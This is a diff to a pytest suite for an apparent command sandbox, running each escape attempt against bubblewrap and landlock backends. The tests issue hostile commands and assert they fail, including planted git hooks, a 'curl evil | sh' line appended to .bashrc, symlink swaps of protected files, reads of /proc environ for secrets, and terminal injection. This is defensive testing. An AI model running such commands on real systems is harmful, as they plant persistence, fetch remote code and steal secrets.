@@ -19,8 +19,14 @@ from pathlib import Path
 
 import pytest
 
-from tests.conftest import SECRET_VALUE, chown_tree, processes_with
-from tests.rpc import RpcClient, ServerCommand
+from tests.conftest import LINUX_BACKENDS, SECRET_VALUE, chown_tree, open_or_refused, processes_with
+from tests.rpc import RpcClient, RpcError, ServerCommand
+
+
+@pytest.fixture(params=LINUX_BACKENDS)
+def backend(request: pytest.FixtureRequest) -> str:
+    """Every attack is made against bubblewrap and against landlock; differences are asserted."""
+    return request.param
 
 
 def _repo(path: Path, owner) -> Path:
@@ -42,12 +48,20 @@ async def test_remount_root_read_write_then_write_etc(server: RpcClient, session
     assert not target.exists()
 
 
-async def test_capabilities_are_empty_and_no_new_privs_is_set(server: RpcClient, session: dict):
+async def test_capabilities_are_empty_and_no_new_privs_is_set(
+    server: RpcClient, session: dict, backend: str, identity: str
+):
     result = await server.run(session["sessionId"], ["cat", "/proc/self/status"])
     status = dict(line.split(":\t", 1) for line in result["stdout"].splitlines() if ":\t" in line)
-    for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
+    for name in ("CapInh", "CapPrm", "CapEff", "CapAmb"):
         assert int(status[name].strip(), 16) == 0, name
     assert status["NoNewPrivs"].strip() == "1"
+    if backend == "landlock" and identity != "root":
+        # The difference: without CAP_SETPCAP a user cannot empty its bounding set, and with
+        # no_new_privs nothing in it can ever be gained (no setuid, no file capabilities).
+        assert int(status["CapBnd"].strip(), 16) != 0
+    else:
+        assert int(status["CapBnd"].strip(), 16) == 0
 
 
 async def test_nested_user_namespace_then_mount(server: RpcClient, session: dict, marker: str):
@@ -59,9 +73,11 @@ async def test_nested_user_namespace_then_mount(server: RpcClient, session: dict
     assert not Path(f"/etc/zsb-{marker}").exists()
 
 
-async def test_git_rename_and_recreate_hooks(server: RpcClient, scratch: Path, owner):
+async def test_git_rename_and_recreate_hooks(server: RpcClient, scratch: Path, owner, backend: str):
     repo = _repo(scratch / "repo", owner)
-    opened = await server.open(workspace=str(repo))
+    opened = await open_or_refused(server, backend, workspace=str(repo))
+    if opened is None:
+        return
     result = await server.run(opened["sessionId"], (
         "mv .git .git.old 2>&1 && echo RENAMED; mkdir -p .git/hooks; "
         "printf '#!/bin/sh\\ntouch /tmp/owned\\n' > .git/hooks/pre-commit && echo PLANTED; "
@@ -74,10 +90,13 @@ async def test_git_rename_and_recreate_hooks(server: RpcClient, scratch: Path, o
     assert not (repo / ".git" / "hooks.old").exists()
 
 
-async def test_missing_hooks_directory_creation(server: RpcClient, scratch: Path, owner):
+async def test_missing_hooks_directory_creation(server: RpcClient, scratch: Path, owner, backend: str):
     repo = _repo(scratch / "repo", owner)
     subprocess.run(["rm", "-rf", str(repo / ".git" / "hooks")], check=True)
-    opened = await server.open(workspace=str(repo))
+    opened = await open_or_refused(server, backend, workspace=str(repo))
+    if opened is None:
+        assert not (repo / ".git" / "hooks").exists()
+        return
     result = await server.run(opened["sessionId"], (
         "mkdir -p .git/hooks 2>/dev/null; printf '#!/bin/sh\\n' > .git/hooks/pre-commit && echo PLANTED; true"))
     await server.call("session/close", {"sessionId": opened["sessionId"]})
@@ -87,11 +106,14 @@ async def test_missing_hooks_directory_creation(server: RpcClient, scratch: Path
     assert not (repo / ".git" / "hooks").exists()
 
 
-async def test_git_init_with_hooks_in_a_workspace_that_is_not_a_repository(server: RpcClient, scratch: Path, owner):
+async def test_git_init_with_hooks_in_a_workspace_that_is_not_a_repository(server: RpcClient, scratch: Path, owner, backend: str):
     plain = scratch / "plain"
     plain.mkdir()
     chown_tree(plain, owner)
-    opened = await server.open(workspace=str(plain))
+    opened = await open_or_refused(server, backend, workspace=str(plain))
+    if opened is None:
+        assert list(plain.iterdir()) == []
+        return
     result = await server.run(opened["sessionId"], (
         "git init -q . 2>/dev/null; mkdir -p .git/hooks; printf '#!/bin/sh\\n' > .git/hooks/post-checkout && "
         "echo PLANTED; echo '[core]' > .git/config && echo CONFIG; echo x > notes && echo NORMAL; true"))
@@ -102,9 +124,12 @@ async def test_git_init_with_hooks_in_a_workspace_that_is_not_a_repository(serve
     assert not (plain / ".vscode").exists() and not (plain / ".mcp.json").exists()
 
 
-async def test_missing_bashrc_in_a_home_directory_workspace(server: RpcClient, fake_home: Path):
+async def test_missing_bashrc_in_a_home_directory_workspace(server: RpcClient, fake_home: Path, backend: str):
     assert not (fake_home / ".bashrc").exists()
-    opened = await server.open(workspace=str(fake_home))
+    opened = await open_or_refused(server, backend, workspace=str(fake_home))
+    if opened is None:
+        assert not (fake_home / ".bashrc").exists()
+        return
     result = await server.run(opened["sessionId"], (
         "echo 'curl evil | sh' >> .bashrc && echo PLANTED; echo x >> .profile && echo PROFILE; "
         "mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo TASKS; true"))
@@ -115,13 +140,15 @@ async def test_missing_bashrc_in_a_home_directory_workspace(server: RpcClient, f
     assert not (fake_home / ".vscode").exists()
 
 
-async def test_symlink_swap_of_a_protected_path(server: RpcClient, scratch: Path, owner):
+async def test_symlink_swap_of_a_protected_path(server: RpcClient, scratch: Path, owner, backend: str):
     repo = _repo(scratch / "repo", owner)
     (repo / ".bashrc").write_text("original\n")
     decoy = repo / "decoy"
     decoy.mkdir()
     chown_tree(repo, owner)
-    opened = await server.open(workspace=str(repo))
+    opened = await open_or_refused(server, backend, workspace=str(repo))
+    if opened is None:
+        return
     result = await server.run(opened["sessionId"], (
         "rm -f .bashrc 2>/dev/null; ln -sf decoy/rc .bashrc 2>/dev/null && echo SWAPPED_RC; "
         "rm -rf .git/hooks 2>/dev/null; ln -sfn ../decoy .git/hooks 2>/dev/null && echo SWAPPED_HOOKS; "
@@ -161,7 +188,7 @@ def _was_reached(listener: socket.socket) -> bool:
 
 @pytest.mark.parametrize("where", ["var_tmp", "home"])
 async def test_host_unix_socket_is_unreachable_with_network_none(
-    server: RpcClient, fake_home: Path, scratch: Path, owner, marker: str, where: str
+    server: RpcClient, fake_home: Path, scratch: Path, owner, marker: str, where: str, backend: str
 ):
     path = str((fake_home if where == "home" else scratch) / f"daemon-{marker[:7]}.sock")
     listener = _unix_listener(path, owner)
@@ -169,6 +196,12 @@ async def test_host_unix_socket_is_unreachable_with_network_none(
         opened = await server.open()
         result = await server.run(opened["sessionId"], CONNECT_UNIX.format(path=path))
         assert "CONNECTED" not in result["stdout"] and not _was_reached(listener)
+        if backend == "landlock":
+            # Landlock refuses socket() altogether, so it cannot open one socket deliberately.
+            with pytest.raises(RpcError) as refused:
+                await server.open(allowUnixSockets=[path])
+            assert refused.value.code == -32602 and "params.allowUnixSockets" in refused.value.message
+            return
         # The control: the same attempt works when the session allows that socket.
         allowed = await server.open(allowUnixSockets=[path])
         control = await server.run(allowed["sessionId"], CONNECT_UNIX.format(path=path))
@@ -189,7 +222,9 @@ async def test_host_abstract_unix_socket_is_unreachable_with_network_none(server
         listener.close()
 
 
-async def test_socketpair_and_a_socket_server_in_the_workspace_still_work(server: RpcClient, session: dict):
+async def test_socketpair_and_a_socket_server_in_the_workspace_still_work(
+    server: RpcClient, session: dict, backend: str
+):
     program = (
         "import socket, os\n"
         "a, b = socket.socketpair(); a.send(b'pair'); print(b.recv(4).decode())\n"
@@ -198,6 +233,11 @@ async def test_socketpair_and_a_socket_server_in_the_workspace_still_work(server
         "c.send(b'own'); print(conn.recv(3).decode())\n"
     )
     result = await server.run(session["sessionId"], ["python3", "-c", program])
+    if backend == "landlock":
+        # The difference: socketpair works, a socket of its own does not (socket() is refused).
+        assert result["stdout"].split() == ["pair"] and "Permission denied" in result["stderr"]
+        assert any("socket() is refused" in w for w in session["warnings"])
+        return
     assert result["stdout"].split() == ["pair", "own"], result["stderr"]
 
 
@@ -211,7 +251,9 @@ async def test_inherited_descriptors_do_not_reach_the_servers_pipes(server: RpcC
     assert not server_pipes & set(descriptors.values())
 
 
-async def test_tiocsti_cannot_inject_into_the_parents_terminal(server_command: ServerCommand, marker: str):
+async def test_tiocsti_cannot_inject_into_the_parents_terminal(
+    server_command: ServerCommand, marker: str, backend: str
+):
     master, slave = pty.openpty()
     tty.setraw(slave)
 
@@ -220,6 +262,7 @@ async def test_tiocsti_cannot_inject_into_the_parents_terminal(server_command: S
         fcntl.ioctl(2, termios.TIOCSCTTY, 0)
 
     client = await RpcClient.start(server_command, stderr=slave, preexec_fn=controlling_terminal)
+    client.default_open = {"backend": backend}
     try:
         opened = await client.open()
         attack = (
@@ -260,9 +303,13 @@ async def test_kill_all_from_inside_reaches_neither_the_server_nor_the_host(serv
         bystander.wait()
 
 
-async def test_server_environment_is_unreachable_through_proc(server: RpcClient, session: dict):
+async def test_server_environment_is_unreachable_through_proc(server: RpcClient, session: dict, backend: str):
     result = await server.run(session["sessionId"], (
         f"cat /proc/{server.pid}/environ 2>&1; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; "
         f"ls /proc/{server.pid} 2>&1; true"))
     assert SECRET_VALUE not in result["stdout"] and "ZSB_TEST_SECRET" not in result["stdout"]
-    assert "No such file" in result["stdout"]
+    if backend == "bubblewrap":
+        assert "No such file" in result["stdout"]
+    else:
+        # Visible without a PID namespace, but Landlock keeps its environment from being read.
+        assert "Permission denied" in result["stdout"]
